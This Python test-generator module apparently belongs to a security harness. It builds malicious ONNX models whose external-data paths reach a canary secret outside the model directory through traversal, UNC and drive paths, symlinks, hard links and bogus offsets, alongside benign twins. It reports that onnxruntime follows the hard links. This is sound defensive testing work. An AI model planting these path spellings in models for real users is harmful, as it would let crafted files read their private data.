"""Family: ONNX external data that reaches a secret outside the model directory.

Each malicious variant is a model whose initializer keeps its bytes in external data, and a
secret file (``HEX-ONNX-SECRET`` repeated) one directory above the model. The loaders
``onnx`` (onnx.load) and ``onnxruntime`` (an InferenceSession that outputs the initializer)
fire when the secret reaches a tensor. Spellings: absolute paths, '..' in POSIX and Windows
forms, symbolic links to the file and to a directory, hard links (at the top, in a
sub-directory, with offsets, through './' and '//', as a Constant node's value), and
ranges past the end of a file,
negative or beyond 64 bits. onnx 1.23 refuses all of them; onnxruntime 1.31 follows the hard
links. Benign twins are written by onnx.save_model with save_as_external_data.
"""

from __future__ import annotations

import tempfile
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

from differential.harness import Extra, PayloadFor, Variant

FAMILY = "onnx-external-data"
SECRET = b"HEX-ONNX-SECRET:" * 4
LOADERS = ("onnx", "onnxruntime")


def _model(tensors: list[TensorProto]) -> onnx.ModelProto:
    """A graph with no inputs whose outputs are its tensors (what a session returns):
    initializers, or the values of Constant nodes for tensors named ``const*``."""
    nodes = [helper.make_node("Constant", [], [f"out_{t.name}"], value=t)
             if t.name.startswith("const") else
             helper.make_node("Identity", [t.name], [f"out_{t.name}"]) for t in tensors]
    outputs = [helper.make_tensor_value_info(f"out_{t.name}", t.data_type, list(t.dims))
               for t in tensors]
    graph = helper.make_graph(nodes, "g", [], outputs,
                              initializer=[t for t in tensors if not t.name.startswith("const")])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    return model


def _external(name: str, location: str, offset: int | str | None = None,
              length: int | str | None = len(SECRET)) -> TensorProto:
    """An initializer described by onnx's own set_external_data (values as given)."""
    size = int(length) if length is not None and int(length) >= 0 else len(SECRET)
    t = numpy_helper.from_array(np.zeros(size, dtype=np.uint8), name)
    onnx.external_data_helper.set_external_data(t, location)
    for key, value in (("offset", offset), ("length", length)):
        if value is not None:
            entry = t.external_data.add()
            entry.key, entry.value = key, str(value)
    t.ClearField("raw_data")
    return t


def _secret(name: str) -> Extra:
    return Extra(f"../{name}.secret", SECRET)


def _cases(name_dir: str) -> Iterator[tuple[str, list[TensorProto], tuple[Extra, ...]]]:
    """(name, initializers, extras) of every malicious spelling."""
    s = f"../{name_dir}.secret"
    secret = _secret(name_dir)
    hard = Extra("w.bin", link_to=s, hard=True)
    yield "absolute", [_external("w", str(Path("/nonexistent-root") / "x"))], (secret,)
    yield "dotdot", [_external("w", s)], (secret,)
    yield "dotdot_backslash", [_external("w", s.replace("/", "\\"))], (secret,)
    yield "dotdot_inner", [_external("w", f"sub/../{s}")], (secret, Extra("sub/keep", b""))
    yield "windows_drive", [_external("w", "C:\\secret.bin")], (secret,)
    yield "unc", [_external("w", "\\\\server\\share\\secret.bin")], (secret,)
    yield "symlink", [_external("w", "w.bin")], (secret, Extra("w.bin", link_to=s))
    yield "dir_symlink", [_external("w", f"up/{name_dir}.secret")], (secret,
                                                                    Extra("up", link_to=".."))
    yield "hardlink", [_external("w", "w.bin")], (secret, hard)
    yield "hardlink_no_length", [_external("w", "w.bin", length=None)], (secret, hard)
    yield "hardlink_offset", [_external("w", "w.bin", offset=16, length=32)], (secret, hard)
    yield "hardlink_dot", [_external("w", "./w.bin")], (secret, hard)
    yield "hardlink_sub", [_external("w", "sub/w.bin")], (
        secret, Extra("sub/w.bin", link_to=s, hard=True))
    yield "hardlink_double_slash", [_external("w", "sub//w.bin")], (
        secret, Extra("sub/w.bin", link_to=s, hard=True))
    yield "hardlink_constant_attribute", [_external("const_w", "w.bin")], (secret, hard)
    yield "symlink_constant_attribute", [_external("const_w", "w.bin")], (
        secret, Extra("w.bin", link_to=s))
    yield "hardlink_two_tensors", [_external("a", "w.bin", 0, 32),
                                   _external("b", "w.bin", 32, 32)], (secret, hard)
    yield "past_end", [_external("w", "w.bin", 0, 4 * len(SECRET))], (
        secret, Extra("w.bin", SECRET[:16]))
    yield "offset_past_end", [_external("w", "w.bin", 1 << 20, 16)], (
        secret, Extra("w.bin", SECRET))
    yield "negative_offset", [_external("w", "w.bin", -16, 16)], (secret, Extra("w.bin", SECRET))
    yield "wrapping_offset", [_external("w", "w.bin", (1 << 64) - 16, 16)], (
        secret, Extra("w.bin", SECRET))
    yield "ort_memory", [_external("w", "*/_ORT_MEM_ADDR_/*", 4096, 16)], (secret,)


def _benign() -> Iterator[tuple[str, bytes, tuple[Extra, ...]]]:
    """Models saved with external data by onnx itself, read back as files."""
    rng = np.random.default_rng(7)
    layouts = (("one_file", True, "weights.bin"), ("per_tensor", False, None),
               ("sub_dir", True, "data/weights.bin"))
    for label, one_file, location in layouts:
        tensors = [numpy_helper.from_array(rng.standard_normal(n).astype(np.float32), f"t{n}")
                   for n in (16, 300, 1000)]
        with tempfile.TemporaryDirectory() as tmp:
            path = Path(tmp) / "model.onnx"
            (Path(tmp) / "data").mkdir()  # onnx writes into an existing sub-directory only
            onnx.save_model(_model(tensors), str(path), save_as_external_data=True,
                            all_tensors_to_one_file=one_file, location=location,
                            size_threshold=0)
            files = sorted(p for p in Path(tmp).rglob("*") if p.is_file() and p != path)
            assert files, "onnx wrote no external data"
            extras = tuple(Extra(str(p.relative_to(tmp)), p.read_bytes()) for p in files)
            yield label, path.read_bytes(), extras


def variants(payload: PayloadFor) -> Iterator[Variant]:
    del payload  # the canary is written by the loader when the secret shows up
    names = [case[0] for case in _cases("")]
    for loader in LOADERS:
        for name in names:
            full = f"{name}__{loader}"  # the secret is named after the variant
            _, tensors, extras = next(case for case in _cases(full) if case[0] == name)
            yield Variant(FAMILY, full, "model.onnx", _model(tensors).SerializeToString(),
                          loader, extras=extras)
        for name, data, extras in _benign():
            yield Variant(FAMILY, f"benign_{name}__{loader}", "model.onnx", data, loader,
                          malicious=False, extras=extras)
